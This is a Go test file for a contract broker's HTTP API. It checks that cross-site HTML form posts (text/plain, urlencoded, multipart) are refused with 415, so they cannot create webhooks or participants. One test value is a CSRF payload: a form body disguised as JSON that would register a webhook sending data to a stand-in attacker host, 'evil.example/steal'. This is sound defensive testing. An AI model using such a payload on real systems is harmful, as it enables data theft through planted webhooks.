package httpapi_test

import (
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/accord-cdc/accord/broker/brokertest"
	"github.com/accord-cdc/accord/broker/httpapi"
	"github.com/accord-cdc/accord/broker/httpedge"
)

// TestWritesFromHTMLFormsAreRefused: another web site's page can make a
// browser that remembers the broker's Basic auth POST a form, and a
// text/plain form body can be made to read as JSON. Only JSON is read
// (415 otherwise, as the Ruby broker answers), so such a page cannot create
// a webhook or anything else.
func TestWritesFromHTMLFormsAreRefused(t *testing.T) {
	base := brokertest.Serve(t, brokertest.NewStore(t, "sqlite"), httpapi.Config{Auth: httpedge.Auth{Username: "rw", Password: "pw"}})
	send := func(method, path, contentType, body string) (int, string) {
		t.Helper()
		req, err := http.NewRequest(method, base+path, strings.NewReader(body))
		require.NoError(t, err)
		if contentType != "" {
			req.Header.Set("Content-Type", contentType)
		}
		req.SetBasicAuth("rw", "pw")
		resp, err := http.DefaultClient.Do(req)
		require.NoError(t, err)
		defer resp.Body.Close()
		b, err := io.ReadAll(resp.Body)
		require.NoError(t, err)
		return resp.StatusCode, string(b)
	}
	// What <form enctype="text/plain"> sends for <input name='{"description":"x","ignore":"' value='"}'>.
	formJSON := `{"description":"x","events":[{"name":"contract_published"}],"request":{"method":"POST","url":"https://evil.example/steal"},"ignore":"="}`
	for _, c := range []struct{ method, path, contentType, body string }{
		{http.MethodPost, "/webhooks", "text/plain", formJSON},
		{http.MethodPost, "/webhooks", "text/plain;charset=UTF-8", formJSON},
		{http.MethodPost, "/pacticipants", "application/x-www-form-urlencoded", `{"name":"Evil"}`},
		{http.MethodPut, "/pacticipants/Web/versions/1", "multipart/form-data; boundary=x", `{}`},
	} {
		code, body := send(c.method, c.path, c.contentType, c.body)
		assert.Equal(t, http.StatusUnsupportedMediaType, code, "%s %s as %s: %s", c.method, c.path, c.contentType, body)
		assert.Contains(t, body, "application/json", "the refusal says what to send")
	}
	code, body := send(http.MethodGet, "/webhooks", "", "")
	require.Equal(t, http.StatusOK, code, body)
	assert.NotContains(t, body, "evil.example", "no webhook was created")
	code, _ = send(http.MethodGet, "/pacticipants/Evil", "", "")
	assert.Equal(t, http.StatusNotFound, code, "no pacticipant was created")

	// The clients' JSON is read as before, with or without a Content-Type.
	code, body = send(http.MethodPost, "/pacticipants", "application/json", `{"name":"Web"}`)
	assert.Equal(t, http.StatusCreated, code, body)
	code, body = send(http.MethodPatch, "/pacticipants/Web", "application/merge-patch+json", `{"mainBranch":"main"}`)
	assert.Equal(t, http.StatusOK, code, body)
	code, body = send(http.MethodPut, "/pacticipants/Web/versions/1", "", `{}`)
	assert.Equal(t, http.StatusCreated, code, body)
}
